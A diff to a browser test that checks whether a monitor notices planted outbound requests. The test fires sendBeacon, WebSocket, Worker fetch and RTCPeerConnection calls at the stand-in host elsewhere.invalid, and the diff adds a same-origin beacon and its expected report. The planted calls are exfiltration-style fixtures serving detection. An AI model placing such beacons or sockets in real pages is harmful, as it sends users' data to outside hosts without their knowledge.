@@ -208,6 +208,7 @@ describe('what is planted is noticed', () => {
     await visit.page.evaluate(() => {
       const address = 'http://elsewhere.invalid';
       navigator.sendBeacon(`${address}/beacon`, 'x');
+      navigator.sendBeacon('/beacon', 'x');
       new WebSocket('ws://elsewhere.invalid/socket');
       new Worker(URL.createObjectURL(new Blob([`fetch('${address}/worker').catch(() => 0)`])));
       new RTCPeerConnection();
@@ -221,6 +222,7 @@ describe('what is planted is noticed', () => {
       .toEqual(
         expect.arrayContaining([
           ...elsewhere,
+          `request that tells something: POST ${at('beacon')}`,
           'socket to ws://elsewhere.invalid/socket',
           'security policy: RTCPeerConnection was opened on /',
         ]),
